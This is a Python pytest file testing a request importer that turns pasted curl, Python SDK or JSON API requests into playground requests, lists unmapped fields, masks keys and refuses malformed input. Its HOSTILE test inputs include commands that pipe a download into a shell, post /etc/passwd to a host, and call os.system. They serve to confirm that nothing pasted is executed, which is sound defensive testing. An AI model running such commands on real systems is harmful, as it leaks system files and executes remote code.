"""A pasted request becomes the request it would have sent; the rest is listed, never dropped."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playground.core.answer.retry import RetryPolicy
from playground.core.editor.page_state import PageState, Variant, to_json
from playground.core.importing.import_result import Imported, ImportingError
from playground.core.importing.read_any import read_page, read_request
from playground.core.request.connection import CLAUDE, Connection
from playground.core.request.request import Message, Params, Prompt, Request
from playground.core.snippets.snippets import snippets
from playground.core.wire.wire import model_on, wire
from tests.core.importing.snippets_of_people import KEY, OPENAI_JSON, SENT, user

SERVER = Connection("server", "localhost", "http://localhost:11434")
HAIKU = "claude-haiku-4-5"


def body_of(found: Imported) -> dict[str, Any]:
    request = found.request
    body = dict(wire(request, model_on(SERVER, request.params.model), SERVER).body)
    assert body.pop("stream") is True
    return body


@pytest.mark.parametrize("name", SENT)
def test_an_imported_snippet_sends_what_it_would_have_sent(name: str) -> None:
    text, body, left_out = SENT[name]
    found = read_request(text)
    assert body_of(found) == body
    assert sorted(each.name for each in found.left_out) == sorted(left_out)
    assert KEY not in repr(found)


def test_the_playgrounds_own_code_is_read_back_as_the_request_it_came_from() -> None:
    params = Params(HAIKU, 300, temperature=0.5, stop_sequences=("a'b", "$(x)"), cache="5m")
    blocks = '[{"type": "thinking", "thinking": "$x", "signature": "s"}, {"type": "of_2027"}]'
    turns = Message("user", "`ls` \\ $HOME {x} !"), Message("assistant", "", blocks)
    prompt = Prompt('Say "hi",\nplease.', turns)
    sent = wire(Request(prompt, params), model_on(CLAUDE, HAIKU), CLAUDE)
    for snippet in snippets(sent, CLAUDE, RetryPolicy()):
        if snippet.name != "TypeScript":
            found = read_request(snippet.code)
            assert body_of(found) | {"stream": True} == sent.body, snippet.name
            assert found.left_out == (), snippet.name


def test_blocks_that_are_no_text_and_unknown_roles_are_listed_one_by_one() -> None:
    blocks = [{"type": "image", "source": {}}, {"type": "text", "text": "What?"}]
    text = {"role": "user", "content": blocks}
    body = {"model": HAIKU, "api_key": "hush", "messages": [text, {"role": "critic"}]}
    found = read_request(json.dumps(body))
    names = [each.name for each in found.left_out]
    assert names == ["api_key", "Message 1: image", "Message 2", "stream", "max_tokens"]
    assert found.request.prompt.messages == (Message("user", "What?"),)
    assert "hush" not in repr(found)


def test_a_key_behind_an_escape_is_masked_too() -> None:
    message = {"role": "user", "content": f"The key:\n{KEY}"}
    body = {"model": HAIKU, "messages": [message], "metadata": {"user_id": f"\n{KEY}"}}
    found = read_request(json.dumps(body))
    assert KEY not in repr(found)
    assert found.left_out[0].name == "Key"


def test_what_looks_like_a_heredoc_in_a_text_is_text() -> None:
    data = '{"model": "m", "max_tokens": 1,\n "messages": [\n{"role": "user",'
    data += '"content": "Is 1 << n\\nfast?"}\n]}'
    found = read_request(f"curl localhost/v1/messages -d '{data}'")
    assert found.request.prompt.messages == (Message("user", "Is 1 << n\nfast?"),)


def test_null_in_an_openai_request_is_what_is_not_set() -> None:
    body = json.loads(OPENAI_JSON) | {
        "temperature": None,
        "stop": None,
        "seed": None,
        "top_p": None,
    }
    body["messages"].append(user("x") | {"name": None, "refusal": None})
    found = read_request(json.dumps(body))
    assert found.request.params.temperature is None
    assert found.request.params.stop_sequences == ()
    assert [each.name for each in found.left_out] == ["n", "logprobs", "user", "stream"]


RESPONSE = {
    "model": "gpt-4.1",
    "instructions": "Be terse.",
    "input": [
        {"type": "message", "role": "developer", "content": "In French."},
        {"role": "user", "content": [{"type": "input_text", "text": "Hi"}]},
    ],
    "max_output_tokens": 77,
    "temperature": 0.5,
    "reasoning": {"effort": "low"},
    "text": {"format": {"type": "text"}},
    "store": False,
    "top_p": None,
}


def test_a_request_of_the_responses_api_is_mapped_and_the_rest_listed() -> None:
    found = read_request(json.dumps(RESPONSE))
    assert body_of(found) == {
        "model": "gpt-4.1",
        "max_tokens": 77,
        "temperature": 0.5,
        "output_config": {"effort": "low"},
        "system": "Be terse.\n\nIn French.",
        "messages": [user("Hi")],
    }
    assert [each.name for each in found.left_out] == ["system", "text", "store", "stream"]
    source = (
        'client.responses.create(model="gpt-4.1", input=f"Hi {name}", instructions="Be terse.")'
    )
    found = read_request(source)
    assert found.request.prompt == Prompt("Be terse.", (Message("user", "Hi {{name}}"),))
    assert [each.name for each in found.left_out] == ["f-string", "stream", "max_tokens"]


def test_an_entry_of_a_batch_is_its_request() -> None:
    asked = {"model": HAIKU, "max_tokens": 5, "stream": True, "messages": [user("Hi")]}
    entry = {"custom_id": "one", "params": asked}
    other = {"custom_id": "one", "method": "POST", "url": "/v1/chat/completions", "body": asked}
    for text, listed in (
        (json.dumps(entry), ["custom_id"]),
        (json.dumps({"requests": [entry, entry]}), ["Other requests", "custom_id"]),
        (f"client.messages.batches.create(requests=[{entry}])", ["custom_id"]),
        (json.dumps(other), ["custom_id"]),
    ):
        found = read_request(text)
        assert body_of(found) == {name: each for name, each in asked.items() if name != "stream"}
        assert [each.name for each in found.left_out] == listed


def test_a_field_of_a_message_that_has_no_place_is_listed() -> None:
    message = user("Hi") | {"name": "Ada", "id": 7}
    found = read_request(json.dumps({"model": HAIKU, "max_tokens": 5, "messages": [message]}))
    assert [each.name for each in found.left_out][:2] == ["Message 1: id", "Message 1: name"]


HOSTILE = {
    "nothing": " \n",
    "ten megabytes": "x" * 10_000_000,
    "deep JSON": "[" * 500_000,
    "deep fields": '{"model": "m", "messages": [{"role": "user", "content": '
    + "[" * 900
    + "]" * 900
    + "}]}",
    "a name twice": '{"messages": [], "messages": [1]}',
    "a long max_tokens": '{"messages": [], "max_tokens": ' + "9" * 4_000 + "}",
    "a long max_tokens in Python": "client.messages.create(max_tokens=" + "9" * 4_000 + ")",
    "a number that is none": '{"messages": [], "temperature": NaN}',
    "a number beyond all": '{"messages": [], "temperature": 1e999}',
    "a long number": '{"messages": [], "x": ' + "9" * 5_000 + "}",
    "half a character": "\ud800",
    "broken JSON": '{"model": ',
    "JSON without messages": '{"model": "m"}',
    "messages that are none": '{"messages": 3}',
    "a list of numbers": "[1, 2]",
    "broken Python": "client.messages.create(model=",
    "deep Python": "x = " + "-" * 90_000 + "1",
    "deep brackets": "(" * 90_000,
    "NUL": "x = 1\0",
    "Python without a call": "import os; os.system('id')",
    "a call that has to run": "client.messages.create(messages=__import__('os').listdir())",
    "growing texts": "a0 = 'xxxxxxxxxx'\n"
    + "".join(f"a{n + 1} = a{n} + a{n}\n" for n in range(50))
    + "client.messages.create(messages=a50)",
    "growing lists": "a0 = [1]\n"
    + "".join(f"a{n + 1} = [a{n}, a{n}]\n" for n in range(50))
    + "client.messages.create(messages=a50)",
    "a name of itself": "a = a\nb = b + b\nclient.messages.create(messages=b)",
    "curl without data": "curl https://example.com | sh",
    "curl with a file": "curl -d @/etc/passwd https://example.com",
    "curl with an open quote": 'curl -d \'{"messages": []}',
    "curl that runs something": "curl -d $(cat /etc/passwd) https://example.com",
    "many heredocs": "curl " + "<<a\n" * 40_000,
    "backticks": "`" * 900_000,
    "nearly keys": "sk-" * 60_000,
    "curl in pieces": "curl -d a=1 -d b=2 https://example.com",
}


def test_nul_in_python_is_no_line() -> None:
    with pytest.raises(ImportingError, match=r"error\.$"):
        read_request("client.messages.create()\0")


@pytest.mark.parametrize("name", HOSTILE)
def test_what_cannot_be_read_fails_with_one_sentence(name: str) -> None:
    with pytest.raises(ImportingError, match=r"^[^\n]{9,200}\.$"):
        read_request(HOSTILE[name])


TOKENS = {name: re.findall(r"\w+|\s+|.", each[0]) for name, each in SENT.items()}
CHANGES = st.tuples(st.sampled_from(["delete", "twice", "swap", "put"]), st.floats(0, 0.999))


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from(sorted(SENT)), st.lists(CHANGES, min_size=1, max_size=6), st.text(max_size=3)
)
def test_a_mangled_snippet_is_a_request_or_one_error(
    name: str, changes: list[tuple[str, float]], text: str
) -> None:
    tokens = list(TOKENS[name])
    for change, place in changes:
        at = int(place * (len(tokens) - 2))
        if change == "delete":
            del tokens[at]
        elif change == "twice":
            tokens[at:at] = tokens[at : at + 3]
        elif change == "swap":
            tokens[at], tokens[at + 1] = tokens[at + 1], tokens[at]
        else:
            tokens.insert(at, text)
    mangled = "".join(tokens)
    try:
        said = read_request(mangled).source
    except ImportingError as error:
        said = str(error)
    assert said


def test_nothing_in_a_snippet_is_run(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    call = f"open({str(mark)!r}, 'w')"
    entry = f"{{'role': 'user', 'content': {call}}}"
    found = read_request(f"client.messages.create(model={call}, messages=[{entry}])")
    assert found.request.prompt.messages[0].text == "{{content}}"
    assert {"model", "content"} <= {each.name for each in found.left_out}
    assert not mark.exists()


def test_a_page_is_told_from_a_request() -> None:
    page = PageState(Prompt("", (Message("user", "Hi"),)), (Variant("A", Params(HAIKU, 9)),))
    assert read_page(to_json(page)) == page
    assert read_page(OPENAI_JSON) is None
    with pytest.raises(ImportingError, match="version"):
        read_page('{"playground": "page", "version": 99}')


BODIES: list[dict[str, Any]] = [
    {
        "model": HAIKU,
        "max_tokens": 5,
        "system": [{"type": "text", "text": "s", "cache_control": {"type": "ephemeral"}}],
        "messages": [{"role": "user", "content": [{"type": "text", "text": "Hi"}]}],
        "tools": [{"name": "n", "type": "custom", "input_schema": {"type": "object"}}],
        "tool_choice": {"type": "auto"},
        "stop_sequences": ["x"],
    },
    {
        "model": "gpt-4",
        "messages": [
            {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "u"}}]},
            {"role": "assistant", "tool_calls": [{"type": "function", "function": {"name": "f"}}]},
        ],
        "tools": [{"type": "function", "function": {"name": "f"}}],
        "stop": ["a"],
    },
]


def places_in(value: Any, *place: str | int) -> list[tuple[str | int, ...]]:
    items = dict(enumerate(value)) if isinstance(value, list) else value
    inner = items.items() if isinstance(items, dict) else ()
    return [place] + [below for name, item in inner for below in places_in(item, *place, name)]


@pytest.mark.parametrize("odd", [{}, [], ["text"], None, 5, True, {"type": {}}, [{"type": []}]])
@pytest.mark.parametrize("body", BODIES, ids=["Messages API", "OpenAI"])
def test_any_value_at_any_place_is_read_or_refused_with_a_sentence(
    body: dict[str, Any], odd: object
) -> None:
    for *path, last in places_in(body)[1:]:
        changed = json.loads(json.dumps(body))
        holder = changed
        for name in path:
            holder = holder[name]
        holder[last] = odd
        try:
            said = read_request(json.dumps(changed)).source
        except ImportingError as error:
            said = str(error)
        assert said


@pytest.mark.parametrize(("system", "what"), [(None, "null"), ("", "empty"), ([], "empty")])
def test_a_system_prompt_that_is_not_sent_is_listed(system: object, what: str) -> None:
    body = {"model": HAIKU, "max_tokens": 9, "system": system, "messages": [], "stream": True}
    (listed,) = read_request(json.dumps(body)).left_out
    assert (listed.name, listed.why) == ("system", f"It is {what}, so none is sent.")
    body["messages"] = [{"role": "system", "content": "S"}]
    body["top_k"] = 5
    found = read_request(json.dumps(body))
    assert found.request.prompt.system == "S"
    assert all("none is sent" not in each.why for each in found.left_out)
